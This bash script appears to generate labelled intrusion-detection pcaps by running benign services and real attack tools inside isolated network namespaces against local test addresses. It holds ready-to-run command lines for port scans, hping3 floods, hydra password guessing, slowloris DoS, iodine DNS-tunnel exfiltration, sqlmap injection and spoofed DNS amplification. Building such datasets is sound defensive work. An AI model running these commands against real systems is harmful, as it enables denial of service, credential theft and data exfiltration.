#!/usr/bin/env bash
# Generate labelled network traffic from real programs inside network
# namespaces, one pcap per scenario plus labels.tsv.
#
#   generate.sh [OUTDIR] [--scale small|full] [--only s1,s2,...]
#
# Run as root after apt.sh. See README.md for the scenarios and safety rules.
set -euo pipefail

DATAGEN_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
OUTDIR="$DATAGEN_DIR/../../.local/datagen"
SCALE=full
ONLY=""
while [[ $# -gt 0 ]]; do
  case $1 in
    --scale) SCALE=${2:?}; shift 2 ;;
    --scale=*) SCALE=${1#*=}; shift ;;
    --only) ONLY=${2:?}; shift 2 ;;
    -h|--help) sed -n 2,9p "$0"; exit 0 ;;
    -*) echo "unknown option $1" >&2; exit 2 ;;
    *) OUTDIR=$1; shift ;;
  esac
done
[[ $SCALE == small || $SCALE == full ]] || { echo "--scale must be small or full" >&2; exit 2; }
[[ $EUID -eq 0 ]] || { echo "generate.sh: run as root" >&2; exit 1; }
for t in ip tcpdump capinfos curl dig dnsmasq nginx sshd ssh sshpass iperf3 vsftpd nmap masscan hping3 hydra slowhttptest iodine iodined sqlmap ethtool nc; do
  command -v "$t" >/dev/null || { echo "generate.sh: $t missing; run apt.sh" >&2; exit 1; }
done

# shellcheck source=lib.sh
source "$DATAGEN_DIR/lib.sh"

# one run at a time
exec 9>/tmp/wfg-datagen.lock
flock -n 9 || die "another generate.sh is running"

topo_check_free
mkdir -p "$OUTDIR"
OUTDIR=$(cd "$OUTDIR" && pwd)
WORK=$(mktemp -d /tmp/wfg-datagen.XXXXXX)
mkdir -p "$WORK/log" "$WORK/dl" "$WORK/roothome"
export HOME=$WORK/roothome   # keep tools' state (sqlmap, hydra, chromium) out of /root
trap wfg_cleanup EXIT INT TERM

LABELS=$OUTDIR/labels.tsv
rm -f "$OUTDIR"/*.pcap "$OUTDIR/labels.tsv" "$OUTDIR/summary.tsv" "$OUTDIR/versions.tsv"
echo "$LABEL_HEADER" >"$LABELS"

# ------------------------------------------------------------ scale knobs --
if [[ $SCALE == small ]]; then
  WEB_N=40; WEB_SIZES_MAX=4; BROWSER_N=2; DNS_N=40; SSH_N=3; IPERF_RATE=10M; IPERF_RUNS=1
  NTP_N=4; FTP_N=4; NMAP_UDP_PORTS=20; MASSCAN_PORTS=1-400; FLOOD_N=4000; HYDRA_N=40
  SLOW_LEN=10; SLOW_CONN=100; TUN_BYTES=60000; SQLMAP_T=45; AMP_N=1500; MIXED_T=35; MIXED_WEB_N=50
else
  WEB_N=120; WEB_SIZES_MAX=6; BROWSER_N=6; DNS_N=300; SSH_N=10; IPERF_RATE=50M; IPERF_RUNS=3
  NTP_N=20; FTP_N=15; NMAP_UDP_PORTS=100; MASSCAN_PORTS=1-2000; FLOOD_N=20000; HYDRA_N=300
  SLOW_LEN=40; SLOW_CONN=400; TUN_BYTES=400000; SQLMAP_T=180; AMP_N=6000; MIXED_T=120; MIXED_WEB_N=400
fi

# tx SECONDS NS CMD...: run a tool in a namespace, bounded in time
tx() { local t=$1 ns=$2; shift 2; timeout -k 3 "$t" ip netns exec "$ns" "$@"; }

# ---------------------------------------------------------------- workers --
# Each worker is bounded by a count and a deadline (epoch seconds) and writes
# one labels row covering what it did.
WEB_PATHS=(/ /index.html /style.css /app.js /img/p1.bin /img/p4.bin /img/p8.bin
  /docs/page1.html /docs/page2.html /docs/page3.html /docs/page4.html /docs/page5.html
  /docs/page6.html /nosuch.html /admin/)
WEB_FILES=(/file-1k.bin /file-10k.bin /file-100k.bin /file-500k.bin /file-2m.bin)

web_worker() { # scen ns n deadline [extra-pause-seconds]
  local scen=$1 ns=$2 n=$3 deadline=$4 pause=${5:-0} i s mode url n_files
  local res=(--resolve "www.wfg.test:443:$SERVER" --resolve "www.wfg.test:80:$SERVER")
  n_files=$((WEB_SIZES_MAX - 1)); ((n_files > ${#WEB_FILES[@]})) && n_files=${#WEB_FILES[@]}
  s=$(now_ns)
  for ((i = 0; i < n; i++)); do
    (($(date +%s) < deadline)) || break
    [[ -e /run/netns/$ns ]] || break   # topology gone (interrupted run)
    if ((RANDOM % 4 == 0)); then url=${WEB_FILES[RANDOM % n_files]}; else url=${WEB_PATHS[RANDOM % ${#WEB_PATHS[@]}]}; fi
    mode=$((RANDOM % 3))
    case $mode in
      0) tx 15 "$ns" curl -s -o /dev/null --max-time 10 --http1.1 "${res[@]}" "http://www.wfg.test$url" ;;
      1) tx 15 "$ns" curl -s -o /dev/null --max-time 10 -k --http1.1 "${res[@]}" "https://www.wfg.test$url" ;;
      2) # h2: a page and its sub-resources over one connection
        tx 15 "$ns" curl -s -o /dev/null -o /dev/null -o /dev/null --max-time 10 -k --http2 "${res[@]}" \
          "https://www.wfg.test$url" "https://www.wfg.test/style.css" "https://www.wfg.test/app.js" ;;
    esac || true
    sleep "0.$((RANDOM % 3))$((RANDOM % 10))"
    [[ $pause == 0 ]] || sleep "$pause"
  done
  label "$scen" benign web "${WFG_IP[$ns]}" "$SERVER" tcp 80,443 "$s" "$(now_ns)" curl
}

DNS_Q=("www.wfg.test A" "v6.wfg.test AAAA" "wfg.test MX" "wfg.test TXT" "_dmarc.wfg.test TXT"
  "static.wfg.test A" "_ftp._tcp.wfg.test SRV" "ftp.wfg.test A" "mail.wfg.test A" "ns.wfg.test A" "wfg.test A")
dns_worker() { # scen ns n deadline
  local scen=$1 ns=$2 n=$3 deadline=$4 i s q extra
  s=$(now_ns)
  for ((i = 0; i < n; i++)); do
    (($(date +%s) < deadline)) || break
    [[ -e /run/netns/$ns ]] || break   # topology gone (interrupted run)
    if ((RANDOM % 6 == 0)); then q="nosuch$RANDOM.wfg.test A"; else q=${DNS_Q[RANDOM % ${#DNS_Q[@]}]}; fi
    extra=+notcp; ((RANDOM % 15 == 0)) && extra=+tcp
    # shellcheck disable=SC2086
    tx 8 "$ns" dig @"$DNS" +tries=1 +time=2 $extra $q >/dev/null || true
    sleep "0.$((RANDOM % 4))$((RANDOM % 10))"
  done
  label "$scen" benign dns "${WFG_IP[$ns]}" "$DNS" udp 53 "$s" "$(now_ns)" dig
}

SSH_CMDS=("uname -a; id; uptime" "ls -la /etc | head -40; df -h" "cat /proc/cpuinfo | head -30; free -m"
  "ps aux | head -20" "for i in 1 2 3; do date; sleep 0.3; done")
ssh_worker() { # scen ns n deadline
  local scen=$1 ns=$2 n=$3 deadline=$4 i s c
  s=$(now_ns)
  for ((i = 0; i < n; i++)); do
    (($(date +%s) < deadline)) || break
    [[ -e /run/netns/$ns ]] || break   # topology gone (interrupted run)
    c=${SSH_CMDS[RANDOM % ${#SSH_CMDS[@]}]}
    if ((i % 2 == 0)); then
      tx 20 "$ns" ssh "${SSH_OPTS[@]}" -i "$WORK/ssh/client_key" "root@$SERVER" "$c" >/dev/null || true
      tx 30 "$ns" scp -q "${SSH_OPTS[@]}" -i "$WORK/ssh/client_key" "root@$SERVER:$WORK/www/file-100k.bin" "$WORK/dl/scp-$ns-$i.bin" || true
    else
      tx 20 "$ns" sshpass -p "$WFG_PASS" ssh "${SSH_OPTS[@]/BatchMode=yes/BatchMode=no}" -o PubkeyAuthentication=no \
        "$WFG_USER@$SERVER" "$c" >/dev/null || true
      tx 30 "$ns" sshpass -p "$WFG_PASS" scp -q "${SSH_OPTS[@]/BatchMode=yes/BatchMode=no}" -o PubkeyAuthentication=no \
        "$WORK/www/file-10k.bin" "$WFG_USER@$SERVER:upload-$ns-$i.bin" || true
    fi
    sleep 0.5
  done
  label "$scen" benign ssh "${WFG_IP[$ns]}" "$SERVER" tcp 22 "$s" "$(now_ns)" "openssh,sshpass"
}

# ------------------------------------------------------ benign scenarios --
sc_web() {
  local pids=()
  local d=$(($(date +%s) + 90))
  web_worker "$1" wfg-client1 "$WEB_N" "$d" &
  pids+=($!)
  web_worker "$1" wfg-client2 "$WEB_N" "$d" &
  pids+=($!)
  wait "${pids[@]}"
}

sc_browser() {
  command -v chromium >/dev/null || { log "chromium not installed: skipping"; return 3; }
  local s i ok=0
  s=$(now_ns)
  for ((i = 0; i < BROWSER_N; i++)); do
    rm -rf "$WORK/chrome"; mkdir -p "$WORK/chrome"
    if tx 40 wfg-client1 chromium --headless --no-sandbox --disable-gpu --disable-quic --no-first-run \
      --disable-background-networking --disable-component-update --disable-sync \
      --disable-default-apps --disable-extensions --no-default-browser-check --metrics-recording-only \
      --user-data-dir="$WORK/chrome" --ignore-certificate-errors \
      --host-resolver-rules="MAP www.wfg.test $SERVER" \
      --virtual-time-budget=5000 --dump-dom "https://www.wfg.test/$([[ $i -gt 0 ]] && echo "docs/page$i.html")" \
      >"$WORK/log/chromium-$i.html" 2>>"$WORK/log/chromium.log"; then ok=$((ok + 1)); fi
  done
  label "$1" benign browser "$CLIENT1" "$SERVER" tcp 443 "$s" "$(now_ns)" chromium
  ((ok > 0)) || { log "chromium loaded no page (see log)"; return 1; }
}

sc_dns() {
  local pids=()
  local d=$(($(date +%s) + 60))
  dns_worker "$1" wfg-client1 "$DNS_N" "$d" &
  pids+=($!)
  dns_worker "$1" wfg-client2 "$DNS_N" "$d" &
  pids+=($!)
  wait "${pids[@]}"
}

sc_ssh() {
  local pids=()
  local d=$(($(date +%s) + 120))
  ssh_worker "$1" wfg-client1 "$SSH_N" "$d" &
  pids+=($!)
  ssh_worker "$1" wfg-client2 "$SSH_N" "$d" &
  pids+=($!)
  wait "${pids[@]}"
}

sc_bulk() {
  local s i
  for ((i = 0; i < IPERF_RUNS; i++)); do
    s=$(now_ns)
    tx 15 wfg-client1 iperf3 -c "$SERVER" -p 5201 -t 2 -b "$IPERF_RATE" >>"$WORK/log/iperf-c.log" 2>&1 || return 1
    label "$1" benign bulk "$CLIENT1" "$SERVER" tcp 5201 "$s" "$(now_ns)" "iperf3 -b $IPERF_RATE"
    s=$(now_ns)
    tx 15 wfg-client2 iperf3 -c "$SERVER" -p 5201 -t 2 -b "$IPERF_RATE" -R >>"$WORK/log/iperf-c.log" 2>&1 || return 1
    label "$1" benign bulk "$CLIENT2" "$SERVER" tcp 5201 "$s" "$(now_ns)" "iperf3 -R -b $IPERF_RATE"
  done
  s=$(now_ns)
  tx 15 wfg-client1 iperf3 -c "$SERVER" -p 5201 -t 2 -u -b 5M -l 1200 >>"$WORK/log/iperf-c.log" 2>&1 || return 1
  label "$1" benign bulk "$CLIENT1" "$SERVER" udp,tcp 5201 "$s" "$(now_ns)" "iperf3 -u -b 5M"
}

sc_ntp() {
  local s i ok=0 ns
  s=$(now_ns)
  for ((i = 0; i < NTP_N; i++)); do
    ns=wfg-client$((i % 2 + 1))
    if tx 10 "$ns" ntpdate -q "$SERVER" >>"$WORK/log/ntp.log" 2>&1; then ok=$((ok + 1)); fi
    sleep 0.5
  done
  label "$1" benign ntp "$CLIENT1" "$SERVER" udp 123 "$s" "$(now_ns)" ntpdate
  label "$1" benign ntp "$CLIENT2" "$SERVER" udp 123 "$s" "$(now_ns)" ntpdate
  ((ok > 0)) || { log "no NTP answer (see log/ntp.log)"; return 1; }
}

sc_ftp() {
  local s i ok=0 ns f
  s=$(now_ns)
  for ((i = 0; i < FTP_N; i++)); do
    ns=wfg-client$((i % 2 + 1))
    f=$((i % 3 + 1))
    if tx 20 "$ns" curl -s --max-time 15 --user "$WFG_USER:$WFG_PASS" "ftp://$SERVER/files/" -o /dev/null &&
      tx 20 "$ns" curl -s --max-time 15 --user "$WFG_USER:$WFG_PASS" "ftp://$SERVER/files/report$f.bin" -o /dev/null &&
      tx 20 "$ns" curl -s --max-time 15 --user "$WFG_USER:$WFG_PASS" "ftp://$SERVER/files/readme.txt" -o /dev/null; then
      ok=$((ok + 1))
    fi
    sleep 0.3
  done
  label "$1" benign ftp "$CLIENT1" "$SERVER" tcp 21,30000-30100 "$s" "$(now_ns)" "curl ftp"
  label "$1" benign ftp "$CLIENT2" "$SERVER" tcp 21,30000-30100 "$s" "$(now_ns)" "curl ftp"
  ((ok > 0)) || { log "no FTP session succeeded"; return 1; }
}

# ------------------------------------------------------ attack scenarios --
attack() { # scen kind dst proto port tool-desc timeout cmd...
  local scen=$1 kind=$2 dst=$3 proto=$4 port=$5 tool=$6 t=$7 s rc=0; shift 7
  s=$(now_ns)
  tx "$t" wfg-attacker "$@" >>"$WORK/log/$scen.log" 2>&1 || rc=$?
  label "$scen" attack "$kind" "$ATTACKER" "$dst" "$proto" "$port" "$s" "$(now_ns)" "$tool"
  # timeout's 124 means the bound was hit: the tool ran, the scenario is kept.
  # hping3 exits 1 when it saw no reply (it does not read replies inside the
  # namespace, or they go to a spoofed address): fine if it transmitted.
  if [[ $rc == 1 && $1 == hping3 ]] && tail -n 5 "$WORK/log/$scen.log" | grep -qE '^[1-9][0-9]* packets transmitted'; then rc=0; fi
  [[ $rc == 0 || $rc == 124 ]] || { log "$scen: $tool exited $rc (see log/$scen.log)"; return 1; }
}

sc_nmap_syn() { attack "$1" scan "$SERVER" tcp 1-1000 "nmap -sS" 120 nmap -n -Pn -sS -T4 --max-retries 1 "$SERVER"; }
sc_nmap_connect() { attack "$1" scan "$SERVER" tcp 1-1000 "nmap -sT" 120 nmap -n -Pn -sT -T4 --max-retries 1 "$SERVER"; }
sc_nmap_udp() { attack "$1" scan "$SERVER" udp "top$NMAP_UDP_PORTS" "nmap -sU" 120 nmap -n -Pn -sU -T4 --max-retries 1 --top-ports "$NMAP_UDP_PORTS" "$SERVER"; }
sc_nmap_version() { attack "$1" scan "$SERVER" tcp 21,22,80,443,5201,8080 "nmap -sV" 150 nmap -n -Pn -sV -T4 --version-intensity 4 -p 21,22,80,443,5201,8080 "$SERVER"; }
sc_nmap_os() { attack "$1" scan "$SERVER" '*' '*' "nmap -O" 90 nmap -n -Pn -O -T4 --max-os-tries 1 -p 22,80,443,113 "$SERVER"; }
sc_masscan() {
  # masscan does no ARP: it sends every probe to one "router" MAC. There is no
  # router here (and there must be no default route), so the /28 is scanned
  # in one run per live host with that host's MAC, plus one run over the rest
  # of the /28 to the broadcast MAC (nobody lives there: no answers).
  local n_ports t ns ip mac rc=0
  n_ports=$(awk -F- '{print ($2 ? $2 - $1 + 1 : 1)}' <<<"$MASSCAN_PORTS")
  # masscan 1.3.2 often does not exit after --wait here: the timeout (send
  # time + wait + 3 s) ends it, and timeout's status 124 counts as done
  t=$((n_ports / 2000 + 5))
  for ns in wfg-server wfg-client1 wfg-client2; do
    ip=${WFG_IP[$ns]}
    mac=$(nsx "$ns" cat /sys/class/net/eth0/address)
    attack "$1" scan "$ip" tcp "$MASSCAN_PORTS" "masscan --rate 2000" "$t" \
      masscan "$ip" -p "$MASSCAN_PORTS" --rate 2000 --wait 2 --seed 7 \
      --adapter eth0 --adapter-ip "$ATTACKER" --router-mac "$mac" || rc=1
  done
  attack "$1" scan 10.77.0.0/28 tcp "$MASSCAN_PORTS" "masscan --rate 2000" $((n_ports * 13 / 2000 + 4)) \
    masscan 10.77.0.0/28 --exclude "$SERVER,$CLIENT1,$CLIENT2" -p "$MASSCAN_PORTS" --rate 2000 --wait 1 --seed 7 \
    --adapter eth0 --adapter-ip "$ATTACKER" --router-mac ff:ff:ff:ff:ff:ff || rc=1
  return $rc
}
sc_flood_syn() { attack "$1" flood "$SERVER" tcp 80 "hping3 -S --faster" 60 hping3 -q -S -p 80 -c "$FLOOD_N" --faster "$SERVER"; }
sc_flood_udp() { attack "$1" flood "$SERVER" udp 9999 "hping3 --udp --faster" 60 hping3 -q --udp -p 9999 -k -d 512 -c "$FLOOD_N" --faster "$SERVER"; }
sc_flood_icmp() { attack "$1" flood "$SERVER" icmp 0 "hping3 -1 --faster" 60 hping3 -q -1 -d 64 -c "$FLOOD_N" --faster "$SERVER"; }

make_wordlist() { # file n [correct-at-end]
  local f=$1 n=$2 i
  {
    printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
      123123 baseball abc123 football monkey letmein shadow master 666666 qwertyuiop \
      123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 \
      admin root toor changeme welcome passw0rd secret iloveyou trustno1 sunshine
    for ((i = 40; i < n; i++)); do printf 'wfg%04d%s\n' "$i" "$(((i * 7919) % 1000))"; done
  } | head -n "$n" >"$f"
  [[ ${3:-} == correct ]] && echo "$WFG_PASS" >>"$f"
  return 0
}
sc_hydra_ssh() {
  make_wordlist "$WORK/pw-ssh.txt" "$HYDRA_N" correct
  (cd "$WORK" && attack "$1" bruteforce "$SERVER" tcp 22 "hydra ssh" 180 hydra -I -f -t 4 -l "$WFG_USER" -P "$WORK/pw-ssh.txt" "ssh://$SERVER")
}
sc_hydra_ftp() {
  make_wordlist "$WORK/pw-ftp.txt" "$HYDRA_N" correct
  (cd "$WORK" && attack "$1" bruteforce "$SERVER" tcp 21 "hydra ftp" 180 hydra -I -f -t 4 -l "$WFG_USER" -P "$WORK/pw-ftp.txt" "ftp://$SERVER")
}
sc_hydra_http() {
  make_wordlist "$WORK/pw-http.txt" "$HYDRA_N"   # correct password not in the list
  (cd "$WORK" && attack "$1" bruteforce "$SERVER" tcp 80 "hydra http-get" 180 hydra -I -t 4 -l admin -P "$WORK/pw-http.txt" "$SERVER" http-get /admin/)
}
sc_slowloris() {
  attack "$1" slow_dos "$SERVER" tcp 80 "slowhttptest -H" $((SLOW_LEN + 40)) \
    slowhttptest -H -c "$SLOW_CONN" -i 5 -r 50 -l "$SLOW_LEN" -x 24 -p 3 -u "http://$SERVER/index.html"
}
sc_slowread() {
  attack "$1" slow_dos "$SERVER" tcp 80 "slowhttptest -X" $((SLOW_LEN + 40)) \
    slowhttptest -X -c "$SLOW_CONN" -r 50 -l "$SLOW_LEN" -w 512 -y 1024 -n 5 -z 32 -k 3 -p 3 -u "http://$SERVER/file-2m.bin"
}
sc_dns_tunnel() {
  local s rc=0 i
  s=$(now_ns)
  bg wfg-dns iodined iodined -f -c -P wfgtunnel -l "$WFG_DNS_TUN_IP" -p 53 10.77.99.1/27 t.wfg.test >/dev/null
  local dpid=${WFG_BG_PIDS[-1]}
  wait_port wfg-dns "$WFG_DNS_TUN_IP" 53 udp || true
  bg wfg-attacker iodine timeout 120 iodine -f -r -P wfgtunnel "$WFG_DNS_TUN_IP" t.wfg.test >/dev/null
  local cpid=${WFG_BG_PIDS[-1]}
  for i in $(seq 1 100); do
    nsx wfg-attacker ip -4 addr show dns0 2>/dev/null | grep -q 'inet 10.77.99' && break
    sleep 0.2
  done
  if nsx wfg-attacker ip -4 addr show dns0 2>/dev/null | grep -q 'inet 10.77.99'; then
    tx 30 wfg-attacker ping -c 30 -i 0.2 -s 200 10.77.99.1 >>"$WORK/log/$1.log" 2>&1 || true
    bg wfg-dns tunsink timeout 90 nc -l 10.77.99.1 7777 >/dev/null
    local spid=${WFG_BG_PIDS[-1]}
    sleep 0.5
    head -c "$TUN_BYTES" /dev/urandom | tx 80 wfg-attacker nc -q 2 10.77.99.1 7777 >>"$WORK/log/$1.log" 2>&1 || rc=$?
    stop_pid "$spid"
  else
    log "iodine tunnel did not come up (see log/iodine.log)"; rc=1
  fi
  stop_pid "$cpid"; stop_pid "$dpid"
  label "$1" attack dns_tunnel "$ATTACKER" "$WFG_DNS_TUN_IP" udp 53 "$s" "$(now_ns)" "iodine 0.7"
  [[ $rc == 0 || $rc == 124 ]]
}
sc_sqli() {
  mkdir -p "$WORK/sqlmap"
  attack "$1" sqli "$SERVER" tcp 8080 "sqlmap --level 1 --risk 1" "$SQLMAP_T" \
    sqlmap -u "http://$SERVER:8080/item?id=1" --batch --level 1 --risk 1 --time-sec 1 --timeout 5 \
    --retries 1 --threads 2 --disable-coloring --output-dir "$WORK/sqlmap" --tables
}
make_dns_query() { # file qtype(hex 4 digits)
  # header id=0x4a11 RD qd=1 ar=1; qname amp.wfg.test; qtype; class IN; EDNS0 OPT udp 4096
  printf '\x4a\x11\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03amp\x03wfg\x04test\x00'"$2"'\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' >"$1"
}
sc_amplification() {
  # the attacker spoofs the victim's address; dnsmasq's large TXT answers go
  # to the victim. Labelled by the spoofed (victim, dns) pair.
  make_dns_query "$WORK/q-txt.bin" '\x00\x10'
  make_dns_query "$WORK/q-any.bin" '\x00\xff'
  local s rc=0 half=$((AMP_N / 2))
  s=$(now_ns)
  tx 60 wfg-attacker hping3 -q --udp -a "$VICTIM" -s 20000 -p 53 -E "$WORK/q-txt.bin" -d "$(stat -c %s "$WORK/q-txt.bin")" \
    -c "$half" -i u2000 "$DNS" >>"$WORK/log/$1.log" 2>&1 || rc=$?
  tx 60 wfg-attacker hping3 -q --udp -a "$VICTIM" -s 40000 -p 53 -E "$WORK/q-any.bin" -d "$(stat -c %s "$WORK/q-any.bin")" \
    -c "$half" -i u2000 "$DNS" >>"$WORK/log/$1.log" 2>&1 || rc=$?
  if [[ $rc == 1 ]] && grep -qE '^[1-9][0-9]* packets transmitted' "$WORK/log/$1.log"; then rc=0; fi
  label "$1" attack amplification "$VICTIM" "$DNS" udp 53 "$s" "$(now_ns)" "hping3 -a $VICTIM (sent by $ATTACKER)"
  [[ $rc == 0 || $rc == 124 ]]
}

# ------------------------------------------------------- mixed (demo) ------
sc_mixed() {
  # benign background on all clients for MIXED_T seconds; three short attacks
  # start at +4 s, +6 s and +8 s, all inside the benign window (close
  # together so that samples/mixed.pcap can hold all three)
  local pids=()
  local scen=$1 d=$(($(date +%s) + MIXED_T))
  web_worker "$scen" wfg-client1 "$MIXED_WEB_N" "$d" 0.4 &
  pids+=($!)
  dns_worker "$scen" wfg-client2 1000 "$d" &
  pids+=($!)
  ssh_worker "$scen" wfg-client2 1000 "$d" &
  pids+=($!)
  (
    sleep 4
    attack "$scen" scan "$SERVER" tcp 1-100 "nmap -sS -F" 40 nmap -n -Pn -sS -T4 -F --max-retries 1 "$SERVER" || true
  ) &
  pids+=($!)
  (
    sleep 6
    make_wordlist "$WORK/pw-mixed.txt" 20   # the correct password is not in it
    cd "$WORK" && attack "$scen" bruteforce "$SERVER" tcp 22 "hydra ssh" 15 hydra -I -t 4 -l "$WFG_USER" -P "$WORK/pw-mixed.txt" "ssh://$SERVER" || true
  ) &
  pids+=($!)
  (
    sleep 8
    attack "$scen" flood "$SERVER" tcp 443 "hping3 -S" 20 hping3 -q -S -p 443 -c 300 -i u5000 "$SERVER" || true
  ) &
  pids+=($!)
  wait "${pids[@]}"
}

# ---------------------------------------------------------------- driver ---
SCENARIOS=(
  "web benign web"
  "browser benign browser"
  "dns benign dns"
  "ssh benign ssh"
  "bulk benign bulk"
  "ntp benign ntp"
  "ftp benign ftp"
  "nmap_syn attack scan"
  "nmap_connect attack scan"
  "nmap_udp attack scan"
  "nmap_version attack scan"
  "nmap_os attack scan"
  "masscan attack scan"
  "flood_syn attack flood"
  "flood_udp attack flood"
  "flood_icmp attack flood"
  "hydra_ssh attack bruteforce"
  "hydra_ftp attack bruteforce"
  "hydra_http attack bruteforce"
  "slowloris attack slow_dos"
  "slowread attack slow_dos"
  "dns_tunnel attack dns_tunnel"
  "sqli attack sqli"
  "amplification attack amplification"
  "mixed mixed mixed"
)

# versions of the programs used, for the record
for p in tcpdump wireshark-common nginx-light openssl curl dnsmasq-base bind9-dnsutils openssh-server \
  openssh-client sshpass iperf3 chrony ntpsec-ntpdate vsftpd nmap masscan hping3 hydra slowhttptest \
  iodine sqlmap chromium python3 netcat-openbsd iputils-ping iproute2 ethtool; do
  printf '%s\t%s\n' "$p" "$(dpkg-query -W -f='${Version}' "$p" 2>/dev/null || echo missing)"
done >"$OUTDIR/versions.tsv"
printf 'kernel\t%s\n' "$(uname -r)" >>"$OUTDIR/versions.tsv"

declare -A SC_STATUS SC_SECS
T_START=$(date +%s)
log "scale=$SCALE outdir=$OUTDIR work=$WORK"
topo_up
start_servers

for entry in "${SCENARIOS[@]}"; do
  read -r name lab kind <<<"$entry"
  if [[ -n $ONLY && ",$ONLY," != *",$name,"* ]]; then continue; fi
  log "scenario $name ($lab/$kind)"
  t0=$(date +%s)
  capture_start "$OUTDIR/$name.pcap"
  rc=0
  "sc_$name" "$name" || rc=$?
  capture_stop
  SC_SECS[$name]=$(($(date +%s) - t0))
  case $rc in
    0) SC_STATUS[$name]=ok ;;
    3) SC_STATUS[$name]=skipped; rm -f "$OUTDIR/$name.pcap" ;;
    *) SC_STATUS[$name]="failed($rc)" ;;
  esac
  log "scenario $name: ${SC_STATUS[$name]} in ${SC_SECS[$name]}s"
done

# ---------------------------------------------------------------- summary --
{
  printf 'scenario\tlabel\tkind\tstatus\tseconds\tpackets\tbytes\n'
  for entry in "${SCENARIOS[@]}"; do
    read -r name lab kind <<<"$entry"
    [[ -n ${SC_STATUS[$name]:-} ]] || continue
    pk=0; by=0
    if [[ -f $OUTDIR/$name.pcap ]]; then
      read -r _ pk by < <(capinfos -T -M -r -c -d "$OUTDIR/$name.pcap" 2>/dev/null | tr '\t' ' ') || true
    fi
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$lab" "$kind" "${SC_STATUS[$name]}" "${SC_SECS[$name]}" "${pk:-0}" "${by:-0}"
  done
} >"$OUTDIR/summary.tsv"
column -t -s $'\t' "$OUTDIR/summary.tsv"
awk -F'\t' 'NR>1{p+=$6;b+=$7} END{printf "total: %d packets, %.1f MB\n", p, b/1e6}' "$OUTDIR/summary.tsv"
log "done in $(($(date +%s) - T_START))s; labels: $LABELS ($(($(wc -l <"$LABELS") - 1)) rows)"
